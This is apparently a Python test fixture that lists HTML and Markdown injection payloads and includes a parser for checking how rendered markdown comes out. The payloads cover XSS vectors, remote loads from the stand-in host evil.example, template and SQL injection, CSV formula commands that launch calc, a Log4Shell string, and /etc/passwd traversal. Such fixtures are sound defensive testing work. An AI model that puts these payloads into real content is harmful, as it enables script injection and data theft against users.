"""Text that somebody might put into a data set, a label, an error message or a model's answer."""

from __future__ import annotations

from html.parser import HTMLParser

from markdown_it import MarkdownIt

CANARY = "document.documentElement.setAttribute('data-owned','1')"

PAGE_PAYLOADS = (
    f"<script>{CANARY}</script>",
    f"<ScRiPt>{CANARY}</sCrIpT>",
    f"</script><script>{CANARY}</script>",
    f"</style><script>{CANARY}</script>",
    f"</title><script>{CANARY}</script>",
    f"</pre><script>{CANARY}</script>",
    f"</textarea><script>{CANARY}</script>",
    f"--><script>{CANARY}</script>",
    f"]]><script>{CANARY}</script>",
    f"<<script>{CANARY}//<</script>",
    f"<script src=data:text/javascript,{CANARY}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={CANARY}>",
    f'<img src="x" onerror="{CANARY}">',
    f'"><img src=x onerror={CANARY}>',
    f"'><img src=x onerror={CANARY}>",
    f'" onmouseover="{CANARY}" x="',
    f"' onfocus='{CANARY}' autofocus='",
    f"` onload=`{CANARY}",
    f"<svg onload={CANARY}>",
    f"<svg/onload={CANARY}>",
    f"<svg><script>{CANARY}</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}>",
    f"<body onload={CANARY}>",
    f"<details open ontoggle={CANARY}>",
    f"<video><source onerror={CANARY}></video>",
    f"<audio src=x onerror={CANARY}>",
    f"<input autofocus onfocus={CANARY}>",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CANARY}></iframe>",
    "<iframe src=http://evil.example></iframe>",
    f"<object data=javascript:{CANARY}></object>",
    "<embed src=http://evil.example/x.swf>",
    f"<a href=javascript:{CANARY}>click</a>",
    f"javascript:{CANARY}",
    "data:text/html,<script>1</script>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<form action=http://evil.example><button>ok</button></form>",
    "<template><script>1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>",
    "<plaintext>",
    "<!-- <script>1</script>",
    "<![CDATA[<script>1</script>]]>",
    "<?php echo 1 ?>",
    "{{ 7 * 7 }} {% raw %}{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt; &amp;amp; &#60;b&#62;",
    "=HYPERLINK('http://evil.example','click')",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "| a | b |\n|---|---|\n| c | d |",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>",
    "\\input{/etc/passwd} \\write18{id} $x^2$ 50% & a_b # {x} ~ [opt] *",
    "# headline\n- list\n1. one\n```\ncode",
    "../../../../etc/passwd",
    "%2e%2e/%00 ?query#fragment",
    "漢字 שלום \u202ereversed\u202c \x1b[31mred\x07",
)
"""Mostly for HTML."""

MARKDOWN_PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "</code></pre><script>alert(1)</script>",
    "<!-- --><b>x</b>",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;lt;",
    "[x](javascript:alert(1))",
    "[x](//evil.example)",
    "![x](http://evil.example/pixel.png)",
    "![x][y]",
    "[y]: http://evil.example",
    "<http://evil.example>",
    "http://evil.example/x?a=1&b=2",
    "www.evil.example",
    "WWW.evil.example",
    "someone@evil.example",
    "@someone look",
    "#1 is an issue",
    "`code`",
    "``` \n<script>",
    "~~~\nx",
    "~~gone~~",
    "*bold* **bold** ***bold***",
    "_under_ __under__",
    "a_b_c __init__",
    "a|b|c",
    "|---|",
    "\\",
    "\\\\`",
    "\\<b>",
    "a\nb",
    "a\r\n\r\n# heading",
    "\n---\n",
    "\n\n- item",
    "\n    indented code",
    "a\u2028b\u2029c",
    "a\x00b",
    "\x1b[2Jx",
    "\u202eevil\u202c",
    "$x^2$ and $$y$$",
    ":smile: :warning:",
    "{{ template }} {% raw %}",
    "${jndi:ldap://evil.example}",
    "'; DROP TABLE x; --",
    '" onmouseover="alert(1)',
    "=cmd|'/c calc'!A1",
    "日本語 ü 😀",
    "\ud800 lone",
    "x" * 5000,
    "1. first",
)

PAYLOADS = (*PAGE_PAYLOADS, *MARKDOWN_PAYLOADS)


def on_one_line(payload: str) -> str:
    """What may be seen of it."""
    return " ".join("".join(each for each in payload if each.isprintable() or each.isspace()).split())


class Seen(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.add(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.tags.add(f"declaration {decl}")


def seen(markdown: str) -> Seen:
    page = Seen()
    page.feed(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown))
    page.close()
    return page
